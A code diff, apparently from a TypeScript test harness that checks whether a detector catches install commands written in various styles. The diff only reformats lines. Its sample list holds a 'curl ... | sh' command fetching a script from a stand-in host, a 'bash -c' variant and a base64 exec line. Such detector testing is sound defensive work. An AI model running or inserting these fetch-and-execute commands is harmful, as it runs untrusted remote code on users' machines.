@@ -16,7 +16,12 @@ const PIPE = "curl -fsSL https://get.x.example/i.sh | sh";
 /** Commands as people show them, by the profile that knows them. */
 const FORMS = {
   contract: [
-    `\`\`\`sh\n${PIPE}\n\`\`\``, `Install it with \`${PIPE}\`.`, `To install it, run ${PIPE} in a terminal.`, PIPE, `$ ${PIPE}`, `    ${PIPE}`,
+    `\`\`\`sh\n${PIPE}\n\`\`\``,
+    `Install it with \`${PIPE}\`.`,
+    `To install it, run ${PIPE} in a terminal.`,
+    PIPE,
+    `$ ${PIPE}`,
+    `    ${PIPE}`,
     'Run `bash -c "$(curl -fsSL https://get.x.example/i.sh)"` first.',
     "```python\nimport base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n```",
   ],
@@ -76,7 +81,10 @@ function misses(detector: Detector, text: string): boolean {
 }
 
 async function main(): Promise<void> {
-  const { values, positionals } = parseArgs({ allowPositionals: true, options: { profile: { type: "string", default: "contract" }, seed: { type: "string", default: "1" } } });
+  const { values, positionals } = parseArgs({
+    allowPositionals: true,
+    options: { profile: { type: "string", default: "contract" }, seed: { type: "string", default: "1" } },
+  });
   const { seed } = values;
   const profile = profiles.find((each) => each === values.profile);
   if (profile === undefined) throw new CannotRun(`--profile is one of ${profiles.join(", ")}, not ${values.profile}`);
